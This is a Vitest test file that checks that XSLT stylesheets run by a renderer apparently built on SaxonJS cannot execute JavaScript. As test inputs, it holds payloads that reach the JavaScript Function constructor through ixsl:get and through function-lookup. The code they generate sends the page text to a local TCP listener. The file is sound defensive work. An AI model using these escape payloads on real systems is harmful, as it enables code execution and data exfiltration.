/**
 * No stylesheet runs JavaScript, the user's own and OSP templates included (issue 12): on
 * 956273f an own stylesheet reached `Function` through ixsl:get on a string and sent the view's
 * text to a local listener. Now its compiled form is refused before it runs (XslScriptRefused),
 * and a stylesheet compiled at run time (fn:transform) finds no string compiler either.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:net';
import { listenTcp } from '../support/listener.ts';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DiagnosticBag } from '../../src/diagnostics/index.ts';
import { createXslContext, runXsl } from '../../src/render/xsl/run.ts';

// One XSL context for the file, as one build has: its processes end with the file.
const ctx = createXslContext();
afterAll(() => ctx.close());

const received: string[] = [];
let tcp: Server;
let tcpPort = 0;

beforeAll(async () => {
  ({ server: tcp, port: tcpPort } = await listenTcp(received));
});

afterAll(() => {
  tcp.close();
});

const settle = () => new Promise((ok) => setTimeout(ok, 1500));
const IXSL = 'xmlns:ixsl="http://saxonica.com/ns/interactiveXSLT"';
/** JavaScript that sends the text of the view to the listener. */
const sendView = () => `var p = process.getBuiltinModule('node:net').connect(${tcpPort}, '127.0.0.1'); p.on('error', function () {}); p.write('VIEW-TEXT'); 'sent'`;
/** XSLT that runs `js` through Function, reached from a string's constructor (no globalObject needed). */
const viaFunction = (js: string) =>
  `<xsl:variable name="F" select="ixsl:get(ixsl:get('x', 'constructor'), 'constructor')"/><xsl:variable name="f" select="ixsl:call($F, 'call', [(), &quot;return (function () { ${js.replaceAll('"', '&quot;')} })()&quot;])"/><p><xsl:value-of select="ixsl:call($f, 'call', [()])"/></p>`;

async function run(xsl: string, inner?: string) {
  received.length = 0;
  const dir = mkdtempSync(join(tmpdir(), 'vitrine-noscript-'));
  writeFileSync(join(dir, 'own.xsl'), xsl);
  if (inner) writeFileSync(join(dir, 'inner.xsl'), inner);
  const bag = new DiagnosticBag();
  const out = await runXsl(ctx, { stylesheet: join(dir, 'own.xsl'), source: '<view>VIEW-TEXT</view>', params: {}, roots: [dir] }, bag);
  await settle();
  return { out, bag, dir, codes: bag.items.map((d) => d.code) };
}

describe('no stylesheet runs JavaScript', () => {
  it('an own stylesheet reaching Function through ixsl: is refused before it runs, and sends nothing', async () => {
    const r = await run(`<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${IXSL}>\n<xsl:template match="/">${viaFunction(sendView())}</xsl:template></xsl:stylesheet>`);
    expect(received).toEqual([]);
    expect(r.out).toBeUndefined();
    expect(r.codes).toEqual(['XslScriptRefused']);
    expect(r.bag.items[0]!.location).toMatchObject({ file: join(r.dir, 'own.xsl'), line: 2 });
  }, 30_000);

  it('js: (globalJS) and ixsl: instructions are refused the same way', async () => {
    const r = await run(`<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:js="http://saxonica.com/ns/globalJS" ${IXSL}>\n<xsl:template match="/"><p><xsl:value-of select="js:Date()"/></p><ixsl:set-property name="x" select="1" object="."/></xsl:template></xsl:stylesheet>`);
    expect(r.codes).toEqual(['XslScriptRefused']);
    expect(r.bag.items[0]!.message).toMatch(/ixsl:/);
  }, 30_000);

  it('a stylesheet that fn:transform compiles at run time cannot compile JavaScript either', async () => {
    const inner = `<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${IXSL}><xsl:template name="xsl:initial-template">${viaFunction(sendView())}</xsl:template></xsl:stylesheet>`;
    const r = await run(`<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n<xsl:template match="/"><xsl:copy-of select="transform(map{'stylesheet-location': 'inner.xsl', 'initial-template': QName('http://www.w3.org/1999/XSL/Transform', 'initial-template')})?output"/></xsl:template></xsl:stylesheet>`, inner);
    expect(received).toEqual([]);
    expect(r.out?.output ?? '').not.toContain('sent');
    expect(r.codes.length).toBeGreaterThan(0);
  }, 30_000);

  it('reaching ixsl: by function-lookup (which no static check sees) finds no string compiler', async () => {
    const fl = (name: string, arity: number) => `function-lookup(QName('http://saxonica.com/ns/interactiveXSLT', '${name}'), ${arity})`;
    const js = sendView().replaceAll('"', '&quot;');
    const r = await run(`<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><xsl:variable name="get" select="${fl('get', 2)}"/><xsl:variable name="call" select="${fl('call', 3)}"/>
<xsl:variable name="F" select="$get($get('x', 'constructor'), 'constructor')"/>
<xsl:variable name="f" select="$call($F, 'call', [(), &quot;return (function () { ${js} })()&quot;])"/>
<p><xsl:value-of select="$call($f, 'call', [()])"/></p></xsl:template></xsl:stylesheet>`);
    expect(received).toEqual([]);
    expect(r.out).toBeUndefined();
    expect(r.codes).toEqual(['XslRunFailed']);
    expect(r.bag.items[0]!.message).toMatch(/Code generation from strings disallowed|Failed to call method/);
  }, 30_000);
});
